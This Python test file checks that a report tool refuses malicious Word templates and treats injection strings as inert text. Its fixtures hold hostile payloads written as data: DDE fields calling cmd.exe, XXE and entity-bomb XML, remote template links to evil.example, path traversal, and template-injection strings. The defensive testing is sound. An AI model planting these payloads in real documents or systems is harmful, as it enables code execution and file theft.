"""A template that somebody made to do harm is refused with what and where, or is nothing but text."""

import io
import zipfile

import docx
import pytest

from tests.document.sample import sample
from tests.document.template.files import (
    CONTENT_TYPES,
    DOCUMENT,
    field,
    good,
    package,
    parts_of,
    with_parts,
    with_relation,
    with_xml,
)
from zhibao.catalog.load import load_catalog
from zhibao.catalog.look import default_look
from zhibao.catalog.placeholder import ChapterAt, PlaceholderNames, WholeAt
from zhibao.document.dress import Filled
from zhibao.document.nodes import Inlines, Text
from zhibao.document.readers.errors import ReadError
from zhibao.document.template.package import TemplateError, open_template, require
from zhibao.document.template.safety import KEPT_RELATIONS
from zhibao.document.template.spots import Slip, spots
from zhibao.document.writers.docx_template import write_into
from zhibao.terms.errors import ZhibaoError

NAMES = PlaceholderNames(load_catalog(), None)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml"'
DRAWING = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><w>&c;</w>'
)
NESTED = field(
    "PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DDE cmd"
    "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:instrText>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]><w>&x;</w>'


def macro_enabled() -> bytes:
    parts = parts_of(good())
    plain, macro = b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    kept = b"application/vnd.openxmlformats-officedocument."
    parts[CONTENT_TYPES] = parts[CONTENT_TYPES].replace(kept + plain, b"application/vnd." + macro)
    return package(parts)


def twice() -> bytes:
    target = io.BytesIO(good())
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(target, "a") as archive:
        archive.writestr(DOCUMENT, b"<w/>")
    return target.getvalue()


REFUSED = {
    "a macro project": (with_parts(good(), word__vbaProject_dot_bin=OLE), "宏"),
    "a macro project in disguise": (
        with_relation(good(), "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.xml"), "宏"),
    "the type of a file with macros": (macro_enabled(), "带宏"),
    "a remote template": (with_relation(good(), "attachedTemplate", "http://evil.example/a.dotm", external=True,
                                        part="word/_rels/settings.xml.rels"), "外部模板"),
    "a remote picture": (with_relation(good(), "image", "http://evil.example/a.png", external=True), "图片"),
    "a picture on a share": (with_relation(good(), "image", "\\\\evil.example\\a.png", external=True), "图片"),
    "a link that runs script": (with_relation(good(), "hyperlink", "javascript:alert(1)", external=True), "不是网址"),
    "a link to a file": (with_relation(good(), "hyperlink", "file:///C:/Windows/a.exe", external=True), "不是网址"),
    "a link in another dress": (with_relation(good(), "hyperlink", " JaVaScRiPt:alert(1)", external=True), "不是网址"),
    "an OLE object": (with_xml(good(), "<w:p><w:r><w:object/></w:r></w:p>"), "OLE"),
    "an OLE part": (with_parts(good(), word__embeddings__oleObject1_dot_bin=OLE), "OLE"),
    "an embedded workbook": (with_relation(good(), "package", "embeddings/a.xml"), "嵌入的文件"),
    "an ActiveX control": (with_relation(good(), "control", "activeX/a.xml"), "ActiveX"),
    "a chunk of foreign content": (with_xml(good(), '<w:altChunk/>'), "altChunk"),
    "a foreign part": (with_relation(good(), "aFChunk", "a.xml"), "altChunk"),
    "a subdocument": (with_relation(good(), "subDocument", "other.docx", external=True), "子文档"),
    "a mail merge": (with_relation(good(), "mailMergeSource", "file:///a.mdb", external=True), "邮件合并"),
    "a DDE field": (with_xml(good(), field("DDEAUTO c:\\\\windows\\\\cmd.exe")), "DDEAUTO"),
    "a DDE field over two runs": (with_xml(good(), field("DDE", "AUTO cmd")), "DDEAUTO"),
    "a field that builds another": (with_xml(good(), field("QUOTE 68 68 69")), "QUOTE"),
    "a field in a field": (with_xml(good(), NESTED), "DDE"),
    "an included text": (with_xml(good(), field("INCLUDETEXT \"/etc/passwd\"")), "INCLUDETEXT"),
    "an included picture": (with_xml(good(), field("INCLUDEPICTURE \"http://evil.example/a\"")), "INCLUDEPICTURE"),
    "a simple field": (with_xml(good(), '<w:p><w:fldSimple w:instr="LINK Excel.Sheet a.xls"/></w:p>'), "LINK"),
    "a field with a script": (with_xml(good(), field("HYPERLINK \"javascript:alert(1)\"")), "不是网址"),
    "a button for a macro": (with_xml(good(), field("MACROBUTTON Run here")), "MACROBUTTON"),
    "a picture by address": (with_xml(good(), f'<w:p><w:r><w:pict><v:shape {VML}><v:imagedata src="http://evil.example/a"/>'
                                      "</v:shape></w:pict></w:r></w:p>"), "evil.example"),
    "a shape that runs a program": (with_xml(good(), f'<w:p><a:hlinkClick {DRAWING} action="ppaction://program"/></w:p>'),
                                    "ppaction"),
    "a path out of the package": (package(parts_of(good()) | {"../../evil.xml": b"<a/>"}), "文件之外"),
    "an absolute path": (package(parts_of(good()) | {"/etc/evil.xml": b"<a/>"}), "文件之外"),
    "a path of Windows": (package(parts_of(good()) | {"word\\..\\..\\evil.xml": b"<a/>"}), "文件之外"),
    "a relation out of the package": (with_relation(good(), "header", "../../../evil.xml"), "文件之外"),
    "a part said twice": (twice(), "写了两次"),
    "a program": (with_parts(good(), word__run_dot_exe=b"MZ"), "exe"),
    "an embedded font": (with_parts(good(), word__fonts__font1_dot_odttf=b"x"), "字体"),
    "a picture that is none": (with_parts(good(), word__media__a_dot_png=b"<script/>"), "不是图片"),
    "a drawing with script": (with_parts(good(), word__media__a_dot_svg=b"<svg onload='x()'/>"), "svg"),
    "an entity bomb": (with_parts(good(), word__bomb_dot_xml=BOMB), "已损坏"),
    "an entity from outside": (with_parts(good(), customXml__item9_dot_xml=OUTSIDE), "已损坏"),
    "a bomb of zeros": (with_parts(good(), word__big_dot_xml=b"0" * (30 << 20)), "过大"),
    "very deep nesting": (with_xml(good(), "<w:p>" * 400 + "</w:p>" * 400), "嵌套过深"),
    "not a package": (b"PK\x03\x04 nothing", "已损坏"),
    "an expression": (good("{{''.__class__.__mro__[1].__subclasses__()}}"), "__class__"),
    "an attribute of an object": (good("{{ config.items() }}"), "config"),
    "a call": (good("{{ self.__init__.__globals__ }}"), "__globals__"),
    "a statement": (good("{% for x in ().__class__ %}x{% endfor %}"), "没有程序"),
    "a filter": (good("{{地区|attr('x')}}"), "没有意义"),
    "a format string": (good("{{0.__class__}}"), "__class__"),
}  # fmt: skip


def attempt(content: bytes) -> None:
    """Go the way of a compiled report up to the writer."""
    require(open_template(content, "模板.docx"), NAMES.meaning)


def test_the_good_template_is_taken() -> None:
    attempt(good("{{报告名称}}"))


@pytest.mark.parametrize("name", REFUSED)
def test_it_is_refused_with_what_is_wrong(name: str) -> None:
    content, said = REFUSED[name]
    with pytest.raises((TemplateError, ReadError)) as caught:
        attempt(content)
    assert isinstance(caught.value, ZhibaoError)
    assert said in str(caught.value)


INERT = (
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "=cmd|' /C calc'!A0",
    "{7*7}",
    "&{7}",
    "<script>alert(1)</script>",
    "%s %x {0}",
)


def written(content: bytes) -> bytes:
    template = open_template(content, "模板.docx")
    require(template, NAMES.meaning)
    found = {one.said for label, story in template.stories for one in spots(story, label) if not isinstance(one, Slip)}
    places = {one: NAMES.meaning(one) for one in found}
    filled: dict[str, Inlines | WholeAt | ChapterAt] = {
        one: what if isinstance(what, WholeAt | ChapterAt) else (Text("甲"),) for one, what in places.items()
    }
    return write_into(sample(), {}, default_look(), Filled(template, filled))


def test_other_languages_of_templates_are_plain_text() -> None:
    word = docx.Document(io.BytesIO(written(good(*INERT))))
    assert {*INERT} <= {one.text for one in word.paragraphs}


def test_a_value_that_looks_like_a_placeholder_is_not_read_again() -> None:
    template = open_template(good("{{地区}}"), "模板.docx")
    filled: dict[str, Inlines | WholeAt | ChapterAt] = {
        "地区": (Text("{{省份}}</w:t><w:altChunk/>"),),
        "正文": WholeAt("正文"),
    }
    word = docx.Document(io.BytesIO(write_into(sample(), {}, default_look(), Filled(template, filled))))
    assert "{{省份}}</w:t><w:altChunk/>" in [one.text for one in word.paragraphs]


def test_what_is_not_carried_over_is_not_in_the_report() -> None:
    content = with_parts(good(), customXml__item1_dot_xml=b"<secret/>", word__webSettings_dot_xml=b"<w/>")
    content = with_relation(content, "customXml", "../customXml/item1.xml")
    made = parts_of(written(content))
    assert [name for name in made if "customXml" in name or "vba" in name or "glossary" in name] == []
    assert b"secret" not in b"".join(made.values())
    ours = {"chart", "package"}
    for name, part in made.items():
        if name.endswith(".rels"):
            types = {one.rpartition("/")[2] for one in part.decode().split('"') if "/relationships/" in one}
            assert types <= KEPT_RELATIONS | ours | {"relationships"}, name
            assert b'TargetMode="External"' not in part
